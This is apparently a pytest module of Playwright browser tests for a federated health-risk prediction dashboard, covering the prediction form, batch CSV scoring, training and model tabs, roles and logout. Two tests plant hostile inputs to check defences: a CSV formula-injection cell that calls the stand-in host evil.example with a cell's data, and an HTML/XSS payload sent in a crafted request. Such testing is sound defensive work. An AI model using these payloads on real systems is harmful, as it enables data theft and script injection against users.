"""The dashboard in a real browser (Debian's chromium driven by Playwright) against a real `health-mlops demo`:
the federation's processes, the registry and the dashboard process, all on loopback."""

from __future__ import annotations

import csv
import io
import json
import os
import re
import shutil
import signal
import subprocess
import sys
import time
from collections.abc import Iterator
from pathlib import Path
from typing import NamedTuple
from urllib.parse import urlsplit

import httpx
import pytest
from playwright.sync_api import Browser, Page, Route, expect, sync_playwright

from health_mlops.spec import load_spec
from tests.conftest import free_port_range, wait_until_ready

# One demo for the module: its tests run on one xdist worker.
pytestmark = [pytest.mark.browser, pytest.mark.xdist_group("browser-demo")]

SCREENSHOTS = Path(__file__).resolve().parents[2] / "screenshots"  # git-ignored
TIMEOUT_MS = 30_000
# Tall enough that a dropdown's list near the page's end opens inside the window (at 1000 px, with the login row
# above the tabs, the comparison's list opened below it and a click could not reach its options).
VIEWPORT = {"width": 1280, "height": 1600}


class Demo(NamedTuple):
    url: str  # the dashboard
    home: Path
    aggregator: str
    node_api: int  # the first replica's (hospital-1-a) API port


@pytest.fixture(scope="module")
def demo(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Demo]:
    home = tmp_path_factory.mktemp("browser") / "home"
    base = free_port_range(14)
    command = [sys.executable, "-m", "health_mlops.cli", "demo", "--hospitals", "3", "--rows-per-hospital", "600",
               "--rounds", "3", "--port", str(base), "--node-api-port", str(base + 1), "--node-metrics-port",
               str(base + 6), "--dashboard-port", str(base + 11), "--prometheus-port", str(base + 12),
               "--ops-port", str(base + 13)]
    process = subprocess.Popen(command, env={**os.environ, "HEALTH_MLOPS_HOME": str(home)},
                               stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
    url = f"http://127.0.0.1:{base + 11}"
    try:
        wait_until_ready(f"{url}/readyz", process, timeout_s=600)
        yield Demo(url, home, f"https://127.0.0.1:{base}", base + 1)
    finally:
        process.send_signal(signal.SIGINT)
        process.wait(timeout=60)


def log_in(page: Page, url: str, user: str, password: str) -> None:
    """Open the dashboard as a person does: it asks who they are first."""
    page.goto(url)
    expect(page).to_have_url(f"{url}/login")
    page.get_by_label("Name").fill(user)
    page.get_by_label("Password").fill(password)
    page.get_by_role("button", name="Log in").click()
    expect(page.locator("#logged-in")).to_contain_text(f"Logged in as {user}")


@pytest.fixture(scope="module")
def browser() -> Iterator[Browser]:
    chromium = shutil.which("chromium")
    assert chromium, "Debian's chromium is missing: `make test` installs it (apt-get install chromium)"
    SCREENSHOTS.mkdir(exist_ok=True)
    with sync_playwright() as playwright:
        browser = playwright.chromium.launch(executable_path=chromium, args=["--no-sandbox"])
        yield browser
        browser.close()


@pytest.fixture(scope="module")
def browser_page(demo: Demo, browser: Browser) -> Iterator[Page]:
    """The demo's admin, logged in with the password the demo printed (and keeps in its credentials folder)."""
    page = browser.new_page(viewport=VIEWPORT)
    page.set_default_timeout(TIMEOUT_MS)
    password = (demo.home / "credentials" / "dashboard-admin.password").read_text(encoding="utf-8").strip()
    log_in(page, demo.url, "admin", password)
    yield page
    page.close()


def test_the_predict_form_speaks_the_clinicians_language(browser_page: Page, demo: Demo) -> None:
    """Labels and units from the spec, its descriptions as help, diagnoses as Yes/No, defaults at the feature's
    precision, and the spec's intended-use notice."""
    page = browser_page
    expect(page.get_by_role("heading", level=1)).to_have_text("Risk of an ER visit or admission within 7 days")
    expect(page).to_have_title("Health MLOps: Risk of an ER visit or admission within 7 days")
    expect(page.get_by_text("Use via API")).to_have_count(0)  # no Gradio footer for a clinician
    expect(page.locator("#intended-use")).to_contain_text("not for clinical use")
    expect(page.locator("#links").get_by_role("link", name="Prometheus")).to_have_attribute(
        "href", f"http://127.0.0.1:{urlsplit(demo.url).port + 1}")  # the demo's own, on the port after the dashboard
    expect(page.locator("#input-heart_rate")).to_contain_text("Resting heart rate (bpm)")
    expect(page.locator("#input-heart_rate")).to_contain_text("Mean resting heart rate over the day")
    asthma = page.locator("#input-asthma_copd")
    expect(asthma).to_contain_text("Asthma or COPD")
    expect(asthma.get_by_label("Yes")).to_be_visible()
    expect(asthma.get_by_label("No")).to_be_visible()
    steps = page.locator("#input-steps input").input_value()
    assert steps.isdigit(), steps  # steps a day are whole: no 6817.2
    temperature = page.locator("#input-body_temperature input").input_value()
    assert len(temperature.split(".")[-1]) <= 1, temperature


def test_a_prediction_shows_the_risk_in_context_and_its_main_features(browser_page: Page) -> None:
    page = browser_page
    page.locator("#input-asthma_copd").get_by_label("Yes").check()
    page.click("#predict-button")
    result = page.locator("#prediction")
    expect(result).to_contain_text("Risk of an ER visit or admission within 7 days", timeout=TIMEOUT_MS)
    expect(result).to_contain_text("%")
    expect(result).to_contain_text("the model's decision threshold of")  # flagged or not, at the stored threshold
    # The context, from the champion's model report: the population, where this risk sits, calibration near it.
    expect(result).to_contain_text("In the training population")
    expect(result).to_contain_text("test patients at the hospitals")
    expect(result).to_contain_text("Calibration near this risk")
    expect(result).to_contain_text("percentage points")
    page.screenshot(path=SCREENSHOTS / "predict.png", full_page=True)
    page.locator("#input-spo2 input").fill("150")
    page.click("#predict-button")
    expect(result).to_contain_text("Not scored")
    # As the Batch tab says a refused cell: the label, the value with its unit, what the spec allows.
    expect(result).to_contain_text("Oxygen saturation (SpO₂) (spo2): 150 % is out of range (allowed 70 to 100 %)")
    # Allowed by the spec, but below anything the model was trained on: scored at the edge, and said so.
    page.locator("#input-spo2 input").fill("70")
    page.click("#predict-button")
    expect(result).to_contain_text("Caution: Oxygen saturation (SpO₂) 70 % is below what the model was trained on")
    expect(result).to_contain_text("treat this risk with caution")


def test_a_low_and_a_high_risk_patient_are_placed_among_the_test_patients_as_the_report_counts_them(
        browser_page: Page, demo: Demo) -> None:
    """The percentile and the calibration band a clinician reads, for a well and a clearly unwell patient: different
    numbers, each what the champion's report (counts from every hospital's test rows) gives for the risk shown."""
    from health_mlops.metrics import share_below
    from health_mlops.registry import Registry

    registry = Registry(demo.home, "health-risk")
    champion = registry.champion()
    assert champion is not None
    report = registry.load_report(champion.version)
    assert report is not None
    counts, bands = report["all_test_rows"]["risk_counts"], report["all_test_rows"]["risk_bands"]
    page = browser_page
    result = page.locator("#prediction")
    placed = {}
    for patient, (spo2, breaths, pulse, condition) in {"well": ("98", "14", "62", "No"),
                                                       "unwell": ("87", "30", "125", "Yes")}.items():
        page.locator("#input-spo2 input").fill(spo2)
        page.locator("#input-respiratory_rate input").fill(breaths)
        page.locator("#input-heart_rate input").fill(pulse)
        page.locator("#input-asthma_copd").get_by_label(condition).check()
        page.locator("#input-cardiovascular").get_by_label(condition).check()
        page.click("#predict-button")
        # This patient's answer, not the one before it: the well one has no value beyond the training ranges (the
        # previous test's had), the unwell one's SpO₂ of 87 % is below them.
        if patient == "well":
            expect(result).not_to_contain_text("Caution", timeout=TIMEOUT_MS)
        else:
            expect(result).to_contain_text("Caution: Oxygen saturation (SpO₂) 87 %", timeout=TIMEOUT_MS)
        expect(result).to_contain_text("Calibration near this risk")
        text = result.inner_text()
        risk = float(re.search(r"Risk of [^:]+: ([0-9.]+) %", text).group(1)) / 100  # type: ignore[union-attr]
        lower, tested = re.search(r"higher than the model predicted for ([0-9.]+) % of the (\d+) test patients",
                                  text).groups()  # type: ignore[union-attr]
        assert int(tested) == sum(counts)
        # The risk is shown to 0.1 %: the share below it is that of some risk within half of that.
        shares = [100 * share_below(counts, max(risk + step, 1e-6)) for step in (-0.0005, 0.0005)]
        assert shares[0] - 0.05 <= float(lower) <= shares[1] + 0.05, (patient, risk, lower, shares)
        rows, low, high = re.search(r"of the (\d+) test patients predicted ([0-9.]+) % to ([0-9.]+) %",
                                    text).groups()  # type: ignore[union-attr]
        band = next(b for b in bands if b["rows"] == int(rows) and f"{100 * b['low']:.1f}" == low)
        assert f"{100 * band['high']:.1f}" == high and f"{100 * band['observed']:.1f} %" in text
        placed[patient] = float(lower)
    assert placed["well"] + 10 < placed["unwell"], placed
    page.screenshot(path=SCREENSHOTS / "predict-unwell.png", full_page=True)


def test_a_hospital_asks_for_its_recalibrated_risk_and_an_offer_the_page_never_made_is_refused(
        browser_page: Page, demo: Demo) -> None:
    """The champion carries each hospital's recalibration (fitted on its validation rows): the Predict tab offers
    them; an event naming a hospital the model has none for (crafted, not offered) is not scored nor echoed."""
    page = browser_page
    chooser = page.locator("#predict-hospital")
    expect(chooser).to_be_visible(timeout=TIMEOUT_MS)
    chooser.locator("input").click()
    options = page.get_by_role("option")
    expect(options.first).to_be_visible(timeout=TIMEOUT_MS)
    offered = [o.replace("✓", "").strip() for o in options.all_inner_texts()]  # the chosen one is ticked
    assert offered[0] == "the federated model" and all(re.fullmatch(r"hospital-\d", h) for h in offered[1:]), offered
    assert len(offered) > 1
    page.get_by_role("option", name=offered[1]).click()
    page.click("#predict-button")
    result = page.locator("#prediction")
    expect(result).to_contain_text(f"As {offered[1]} recalibrated the federated model", timeout=TIMEOUT_MS)
    expect(result).to_contain_text(f"{offered[1]}'s decision threshold of")
    cookies = "; ".join(f"{c['name']}={c['value']}" for c in page.context.cookies())
    with httpx.Client(base_url=demo.url, timeout=60, headers={"Cookie": cookies}) as client:
        config = client.get("/config").raise_for_status().json()
        (index,) = [d["id"] for d in config["dependencies"] if d["api_name"] == "predict"]
        typical = [c["props"].get("value") for c in config["components"]
                   if str(c["props"].get("elem_id", "")).startswith("input-")]
        joined = client.post("/gradio_api/queue/join", json={
            "data": [*typical, "<img src=x onerror=alert(1)>"], "fn_index": index, "session_hash": "crafted",
            "trigger_id": None, "event_data": None})
        assert joined.status_code == 200, joined.text
        with client.stream("GET", "/gradio_api/queue/data", params={"session_hash": "crafted"}) as stream:
            done = next(json.loads(line.removeprefix("data:")) for line in stream.iter_lines()
                        if line.startswith("data:") and '"process_completed"' in line)
    # Gradio refuses a value its dropdown never offered this session before the function runs (our own check,
    # for a champion swapped since the page loaded, answers "Not scored"): either way nothing is scored.
    shown = json.dumps(done["output"])
    assert done["success"] is False or "Not scored" in shown, shown
    assert "Risk of" not in shown


def test_a_batch_csv_is_scored_and_its_invalid_rows_are_listed(browser_page: Page, demo: Demo,
                                                                tmp_path: Path) -> None:
    page = browser_page
    source = next((demo.home / "data").glob("*/hospital-1/*.csv"))
    with source.open(newline="") as handle:
        rows = [{"patient_id": f"P{k:03d}", **row} for k, row in enumerate(list(csv.DictReader(handle))[:20])]
    rows[3]["age"] = "forty"
    rows[7]["smoker"] = "sometimes"
    formula = '=HYPERLINK("http://evil.example/?"&B2,"open")'  # a spreadsheet would run it: it comes back as text
    rows[0]["patient_id"] = formula
    upload = tmp_path / "patients.csv"
    with upload.open("w", newline="") as handle:
        writer = csv.DictWriter(handle, fieldnames=list(rows[0]))
        writer.writeheader()
        writer.writerows(rows)
    page.get_by_role("tab", name="Batch").click()
    expect(page.locator("#batch-invalid")).to_contain_text("reason")  # its real headers before any upload
    page.locator("#batch-upload input[type=file]").set_input_files(upload)
    summary = page.locator("#batch-summary")
    expect(summary).to_contain_text("18 scored", timeout=TIMEOUT_MS)
    expect(summary).to_contain_text("2 invalid")
    invalid = page.locator("#batch-invalid")
    expect(invalid).to_contain_text("age")  # line 5 (the header is line 1): "forty" is not a number
    expect(invalid).to_contain_text("sometimes")
    expect(invalid).to_contain_text("P003")  # named by the file's own patient id, beside the line
    expect(invalid).to_contain_text("P007")
    preview = page.locator("#batch-preview")  # the results' first rows on the page, the risk in percent
    expect(preview).to_contain_text("risk (%)")
    expect(preview).to_contain_text("P001")
    link = page.locator("#batch-result a").first
    expect(link).to_be_visible()
    href = link.get_attribute("href") or ""
    assert httpx.get(href).status_code == 401  # the results are the session's: no cookie, no rows
    scored = list(csv.DictReader(io.StringIO(page.request.get(href).text())))
    assert [int(row["line"]) for row in scored] == [n for n in range(2, 22) if n not in (5, 9)]
    assert all(0 < float(row["prediction"]) < 1 for row in scored)
    assert all(row["risk_percent"] == f"{100 * float(row['prediction']):.1f}" for row in scored)
    # The columns the spec does not know come back beside their rows: results join back to the patients.
    assert [row["patient_id"] for row in scored] == [f"'{formula}"] + [f"P{k:03d}" for k in range(1, 20)
                                                                       if k not in (3, 7)]
    assert {row["class"] for row in scored} <= {"0", "1"}
    page.screenshot(path=SCREENSHOTS / "batch.png", full_page=True)


def test_training_is_plotted_live_from_the_aggregator(browser_page: Page) -> None:
    page = browser_page
    page.get_by_role("tab", name="Training").click()
    expect(page.locator("#training-source")).to_contain_text("Source: aggregator", timeout=TIMEOUT_MS)
    curve = page.locator("#training-global .js-plotly-plot .scatterlayer .trace")
    expect(curve.first).to_be_visible(timeout=TIMEOUT_MS)
    expect(page.locator("#training-hospitals .js-plotly-plot .scatterlayer .trace")).to_have_count(3)
    page.screenshot(path=SCREENSHOTS / "training.png", full_page=True)


def test_hospitals_and_models_are_listed_with_the_admins_actions(browser_page: Page, demo: Demo) -> None:
    page = browser_page
    page.get_by_role("tab", name="Hospitals").click()
    hospitals = page.locator("#hospitals")
    expect(hospitals).to_contain_text("hospital-3", timeout=TIMEOUT_MS)
    expect(hospitals).to_contain_text("idle (run completed)")
    expect(hospitals).to_contain_text("no task open")  # not a blank heartbeat
    expect(hospitals).to_contain_text("no differential privacy")  # not a blank ε
    expect(hospitals).to_contain_text("value ranges of a feature")  # what round 0 kept at the hospital, in words
    expect(hospitals).to_contain_text("replicas")
    expect(hospitals).to_contain_text("hospital-1-")  # hospital-1's nodes (two replicas in the demo)
    # Each replica links to its node's own status page, which says what that node did and what left it.
    link = hospitals.get_by_role("link", name="hospital-1-a")
    expect(link).to_have_attribute("href", f"http://127.0.0.1:{demo.node_api}/v1/status")
    status = httpx.get(f"http://127.0.0.1:{demo.node_api}/v1/status").json()
    assert (status["node"], status["central_reachable"]) == ("hospital-1-a", True)
    page.get_by_role("tab", name="Models").click()
    expect(page.locator("#model-versions")).to_contain_text("champion", timeout=TIMEOUT_MS)
    expect(page.get_by_role("button", name="Roll back to the previous champion")).to_be_visible()
    page.get_by_role("tab", name="Monitoring").click()
    expect(page.locator("#monitoring")).to_contain_text("Serving model v1", timeout=TIMEOUT_MS)
    # The form's refused patient (spo2 150) is an invalid request of one row; the batch's two invalid rows are
    # counted as rows (its other rows were scored): the tab and /metrics say the same.
    expect(page.locator("#monitoring")).to_contain_text("1 (3)")
    exposed = httpx.get(f"{demo.url}/metrics").text
    assert 'health_mlops_prediction_rows_invalid_total{endpoint="ui"} 3.0' in exposed
    assert 'health_mlops_predictions_total{endpoint="ui",outcome="invalid"} 1.0' in exposed
    page.screenshot(path=SCREENSHOTS / "monitoring.png", full_page=True)


def test_the_models_tab_shows_the_champions_report_with_roc_and_calibration(browser_page: Page) -> None:
    page = browser_page
    page.get_by_role("tab", name="Models").click()
    summary = page.locator("#model-report")
    expect(summary).to_contain_text("Champion v1: federated model report", timeout=TIMEOUT_MS)
    expect(summary).to_contain_text("fedavg, 3 rounds, 3 hospitals; no differential privacy")
    # Each metric in a sentence a clinician can act on.
    expect(summary).to_contain_text("calibration slope: how far the risks spread compared with what happened")
    expect(summary).to_contain_text("PPV: of the flagged patients, the share who had the event")
    table = page.locator("#model-report-table")
    for text in ("hospital-1", "hospital-3", "mean over hospitals", "all test rows (from counts)",
                 "calibration slope"):
        expect(table).to_contain_text(text)
    # Each plot: the reference line, then one curve per hospital.
    expect(page.locator("#model-roc .js-plotly-plot .scatterlayer .trace")).to_have_count(4)
    expect(page.locator("#model-calibration .js-plotly-plot .scatterlayer .trace")).to_have_count(4)
    expect(page.locator("#model-roc")).to_contain_text("ROC curve per hospital")
    page.screenshot(path=SCREENSHOTS / "models.png", full_page=True)


def test_the_api_docs_render_with_every_request_off_loopback_blocked(browser_page: Page,
                                                                     demo: Demo) -> None:
    """An air-gapped hospital's view: anything but loopback fails, as it would there. FastAPI's own /docs loads
    Swagger UI from a CDN and stays blank; ReDoc fetches its logo from one, so no app serves /redoc."""
    browser = browser_page.context.browser
    assert browser is not None
    page = browser.new_page()
    blocked: list[str] = []

    def loopback_only(route: Route) -> None:
        if urlsplit(route.request.url).hostname in ("127.0.0.1", "localhost"):
            route.continue_()
        else:
            blocked.append(route.request.url)
            route.abort()

    page.route("**/*", loopback_only)
    try:
        page.goto(f"{demo.url}/docs")
        expect(page.locator(".swagger-ui .opblock-summary-path").first).to_be_visible(timeout=TIMEOUT_MS)
        for text in ("Health MLOps serving", "/api/v1/predict", "/api/v1/predict/batch", "PredictAnswer"):
            expect(page.locator("body")).to_contain_text(text)
        assert blocked == []  # nothing was even asked of the internet
        page.screenshot(path=SCREENSHOTS / "api-docs.png")
    finally:
        page.close()


def test_the_batch_template_has_the_specs_columns_and_an_example_row(browser_page: Page) -> None:
    page = browser_page
    page.get_by_role("tab", name="Batch").click()
    with page.expect_download() as download:
        page.click("#batch-template")
    with open(download.value.path(), newline="") as handle:
        rows = list(csv.DictReader(handle))
    spec = load_spec("health-risk")
    assert list(rows[0]) == ["patient_id", *(f.name for f in spec.features)]
    assert len(rows) == 1 and rows[0]["smoker"] in ("never", "former", "current")


@pytest.fixture(scope="module")
def second_run(demo: Demo) -> list[str]:
    """A second federated run on the demo's aggregator (what an admin does with `start-run`), securely aggregated,
    registered as v2: two runs to pick from, two versions to compare. The runs' ids, oldest first."""
    env = {**os.environ, "HEALTH_MLOPS_HOME": str(demo.home), "HEALTH_MLOPS_AGGREGATOR_URL": demo.aggregator}
    cli = [sys.executable, "-m", "health_mlops.cli"]
    subprocess.run([*cli, "start-run", "--rounds", "2", "--secure-aggregation"], env=env, check=True,
                   capture_output=True, timeout=120)
    versions: list[dict] = []
    for _ in range(600):  # the run trains and registers: a few seconds to a few minutes on a busy machine
        listed = subprocess.run([*cli, "registry", "list", "--json"], env=env, check=True, capture_output=True,
                                text=True, timeout=120)
        versions = json.loads(listed.stdout)
        if len(versions) == 2:
            break
        time.sleep(1)
    assert len(versions) == 2, versions
    return [v["federation_run"] for v in sorted(versions, key=lambda v: v["version"])]


def test_the_training_tab_shows_the_run_picked_with_its_losses_and_participation(browser_page: Page,
                                                                                 second_run: list[str]) -> None:
    page = browser_page
    page.get_by_role("tab", name="Training").click()
    first, latest = second_run
    note = page.locator("#training-source")
    expect(note).to_contain_text(f"Showing {latest}", timeout=TIMEOUT_MS)  # the latest run by default
    expect(note).to_contain_text(f"{latest} is securely aggregated: the aggregator saw each round's sum")
    page.locator("#training-run input").click()
    page.get_by_role("option", name=first).click()
    expect(note).to_contain_text(f"Showing {first}", timeout=TIMEOUT_MS)
    expect(note).not_to_contain_text("securely aggregated")  # the demo's own run is not
    expect(note).to_contain_text("scores the model entering that round")
    expect(page.locator("#training-global")).to_contain_text(f"{first}: global model AUC by round")
    expect(page.locator("#training-loss .js-plotly-plot .scatterlayer .trace")).to_have_count(3)
    expect(page.locator("#training-participation")).to_contain_text("hospitals whose results counted")
    page.screenshot(path=SCREENSHOTS / "training.png", full_page=True)


def test_two_model_versions_are_compared_hospital_by_hospital(browser_page: Page, second_run: list[str]) -> None:
    page = browser_page
    page.get_by_role("tab", name="Models").click()
    page.reload()  # the pickers list the versions registered when the page loads
    page.get_by_role("tab", name="Models").click()
    expect(page.locator("#model-versions")).to_contain_text("champion")  # the page's first load is done
    page.locator("#compare-first input").click()
    page.get_by_role("option", name="v1", exact=False).first.click()
    # Each pick shows, and its list is closed, before the next: one full run on a busy machine found the table
    # empty, a pick lost (both lists offer v1 and v2; a click may land on a list still closing).
    expect(page.get_by_role("option")).to_have_count(0)
    expect(page.locator("#compare-first input")).to_have_value(re.compile(r"^v1\b"))
    page.locator("#compare-second input").click()
    page.get_by_role("option", name="v2", exact=False).first.click()
    expect(page.locator("#compare-second input")).to_have_value(re.compile(r"^v2\b"))
    table = page.locator("#model-comparison-table")
    for text in ("hospital-1", "hospital-3", "mean over hospitals", "AUC v1", "AUC v2", "AUC change"):
        expect(table).to_contain_text(text, timeout=TIMEOUT_MS)
    expect(page.locator("#promote-version")).to_be_visible()
    page.screenshot(path=SCREENSHOTS / "models-comparison.png", full_page=True)



def test_a_clinician_sees_predict_and_batch_only_and_logging_out_ends_the_session(browser: Browser,
                                                                                   demo: Demo) -> None:
    env = {**os.environ, "HEALTH_MLOPS_HOME": str(demo.home)}
    passphrase = "a clinician's long passphrase"
    subprocess.run([sys.executable, "-m", "health_mlops.cli", "dashboard-account", "add", "cleo", "--role",
                    "clinician"], input=passphrase + "\n", text=True, env=env, check=True, capture_output=True,
                   timeout=120)
    page = browser.new_page(viewport=VIEWPORT)
    page.set_default_timeout(TIMEOUT_MS)
    log_in(page, demo.url, "cleo", passphrase)
    expect(page.locator("#logged-in")).to_contain_text("(clinician)")
    for tab in ("Predict", "Batch"):
        expect(page.get_by_role("tab", name=tab)).to_be_visible()
    for tab in ("Training", "Models", "Hospitals", "Monitoring"):
        expect(page.get_by_role("tab", name=tab)).to_be_hidden()
    page.locator("#predict-button").click()
    expect(page.locator("#prediction")).to_contain_text("Risk of")
    page.screenshot(path=SCREENSHOTS / "clinician.png", full_page=True)
    (session,) = [c["value"] for c in page.context.cookies() if c["name"] == "health_mlops_session"]
    page.get_by_role("button", name="Log out").click()
    expect(page).to_have_url(f"{demo.url}/login")
    # Ended on the server, not only forgotten by the browser: the old cookie opens nothing.
    assert httpx.get(f"{demo.url}/config", cookies={"health_mlops_session": session}).status_code == 401
    page.goto(demo.url)
    expect(page).to_have_url(f"{demo.url}/login")
    page.close()
